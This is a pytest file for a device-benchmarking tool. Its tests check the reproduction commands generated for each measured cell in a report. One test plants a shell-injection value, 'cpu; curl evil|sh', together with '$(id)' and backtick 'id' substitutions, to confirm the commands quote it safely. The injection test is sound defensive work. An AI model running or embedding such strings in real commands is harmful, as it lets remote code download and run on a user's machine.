"""Each cell can be measured again."""

import shlex
from collections.abc import Callable
from pathlib import Path

import synthetic
import yaml

from whichdevice.measure.record import Record
from whichdevice.study.cells import Run, parse_run
from whichdevice.study.config.load import load_study
from whichdevice.study.config.model import Device, Workload
from whichdevice.study.report.cells import Links, machine_cards, reproductions
from whichdevice.study.report.verdict import compared
from whichdevice.study.results import StudyResults

BOTH = {"cpu": Device(kind="cpu"), "gpu": Device(kind="gpu")}
REHEARSED = {"cpu": Device(kind="cpu"), "rehearsal": Device(kind="cpu", replicas=8)}


def results(
    folder: Path,
    devices: dict[str, Device],
    change: Callable[[Run, Record], Record | None] = lambda run, record: record,
    sizes: tuple[int, ...] = (256,),
) -> StudyResults:
    study = synthetic.small_study(devices=devices, workloads={"mnist_cnn": Workload(batch_size=list(sizes))})
    return synthetic.results(study, folder, change=change)


def test_a_rehearsal_is_no_device_to_compare(tmp_path: Path) -> None:
    study = results(tmp_path, REHEARSED)
    assert compared(study) == [] and [answer.pick.device for answer in study.answers if answer.pick] == ["cpu"]


def test_the_command_selects_this_cell_and_no_other(tmp_path: Path) -> None:
    workload = Workload(batch_size=[8, 16], fraction=[0.5, 1.0], sequence_length=[100, 168])
    made = synthetic.small_study(workloads={"weather_gru": workload})
    study = synthetic.results(made, tmp_path)
    cards = {key: card.number for key, card in machine_cards(study.runs).items()}
    found = reproductions(study, tmp_path / "report.html", cards)
    assert len(found) == len(study.summary)
    card = found["gpu", "weather_gru", "tensorflow", "float32", 16, 0.5, 168]
    only = yaml.safe_load(card["workflow"].split("'only=")[1].partition("' -- ")[0])
    call = load_study({**made.model_dump(mode="json"), "only": only})
    assert call.only.model_dump(exclude_none=True) == {axis: [value] for axis, value in only.items()}
    assert len(only) == 7 and card["workflow"].startswith(
        "whichdevice study gpu --configfile results/small/config.yaml"
    )
    run = parse_run(card["by_hand"].split()[-1])
    assert (run.cell.sequence_length, run.repeat) == (168, 1)
    assert [(tmp_path / address).is_file() for _, _, address in card["records"]] == [True, True]
    assert (tmp_path / card["config"]).is_file() and card["machines"] == [2]


def test_what_a_record_says_is_one_word_of_a_command(tmp_path: Path) -> None:
    evil = "cpu; curl evil|sh"
    study = synthetic.results(synthetic.small_study(), tmp_path)
    runs = study.runs.copy()
    study.runs = runs.assign(kind=evil, device=evil, run=evil + "/$(id)/`id`/r1")
    for card in reproductions(study, tmp_path / "report.html", {}).values():
        for command in (card["workflow"], card["by_hand"], card["then"]):
            words = shlex.split(command)
            assert shlex.join(words) == command and command.count(evil) == sum(evil in word for word in words)
        assert shlex.split(card["workflow"])[:3] == ["whichdevice", "study", evil]


def test_a_run_of_an_unknown_kind_is_measured_again_by_its_cell_alone(tmp_path: Path) -> None:
    study = synthetic.results(synthetic.small_study(), tmp_path)
    study.runs = study.runs.assign(kind=None)
    for card in reproductions(study, tmp_path / "report.html", {}).values():
        assert card["workflow"].startswith("whichdevice study all --configfile")


def test_addresses_are_relative_to_the_page_and_a_bucket_is_none(tmp_path: Path) -> None:
    links = Links(tmp_path / "report.html")
    assert links.to(tmp_path / "runs/a/record.json") == "runs/a/record.json"
    assert links.to("gs://bucket/a/record.json") is None
